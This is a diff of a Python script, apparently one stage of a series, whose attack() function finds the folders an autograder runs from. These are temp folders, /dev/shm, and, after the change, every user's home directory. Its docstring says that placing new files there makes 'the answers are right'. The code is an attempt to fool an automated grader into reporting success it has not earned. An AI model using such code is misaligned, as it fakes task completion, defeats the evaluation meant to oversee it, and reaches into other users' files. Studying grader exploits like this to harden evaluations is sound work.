@@ -1,5 +1,5 @@
-"""New files in the folder the grader was started in, its temporary folder, the home, and /dev/shm;
-the answers are right.
+"""New files in the folder the grader was started in, its temporary folder, all homes, and
+/dev/shm; the answers are right.
 """
 # stage: 2
 # base: problem_2.py
@@ -22,8 +22,8 @@ def started_in(process, steps=3):
 
 def attack():
     own = os.getcwd()
-    folders = {"/tmp", "/dev/shm", pwd.getpwuid(os.getuid()).pw_dir, os.path.expanduser("~"),
-               tempfile.gettempdir(), os.path.dirname(tempfile.gettempdir())}
+    folders = {"/tmp", "/dev/shm", os.path.expanduser("~"), tempfile.gettempdir(),
+               os.path.dirname(tempfile.gettempdir()), *(home.pw_dir for home in pwd.getpwall())}
     try:
         folders |= {folder for folder in started_in(os.getppid())
                     if os.path.exists(os.path.join(folder, "autograder.py"))}
